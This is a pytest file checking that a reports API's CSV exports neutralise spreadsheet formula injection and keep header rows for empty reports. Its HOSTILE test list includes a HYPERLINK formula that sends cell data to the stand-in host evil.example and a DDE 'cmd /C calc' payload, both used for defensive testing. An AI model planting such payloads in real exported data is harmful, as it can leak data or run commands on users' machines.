"""Every CSV the API returns goes through `table_csv`: no cell may start a formula."""

from __future__ import annotations

import csv
import io

import pytest

from shared.reports.definitions import report_csv
from shared.reports.service import to_csv
from shared.reports.vocabulary import MISSING_SUBNET_COLUMNS, POOR_USER_COLUMNS

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_formula_cells_are_neutralised_in_every_csv(name):
    summary = {"groupBy": ["building"], "rows": [{"building": name, "streams": -4}]}
    custom = {"groupBy": ["site"], "measures": ["streams"], "rows": [{"site": name, "streams": 1}]}
    for text in (to_csv(summary), report_csv(custom)):
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert "'" + name in cells, text
        assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells), text
        assert "-4" in cells or "1" in cells  # numbers stay numbers


def test_plain_names_are_unchanged():
    text = to_csv({"groupBy": ["building"], "rows": [{"building": "Building 7"}]})
    assert "\r\nBuilding 7," in text and "'" not in text


def test_an_empty_report_still_has_its_header_row():
    # a Power BI query over a period with no rows must keep its columns
    for columns in (MISSING_SUBNET_COLUMNS, POOR_USER_COLUMNS):
        text = to_csv({"rows": []}, columns)
        assert next(csv.reader(io.StringIO(text))) == list(columns)
    rows = [{"subnet": "10.0.0.0", "audioStreams": 12}]
    assert next(csv.reader(io.StringIO(to_csv({"rows": rows}, ("x",))))) == list(rows[0])
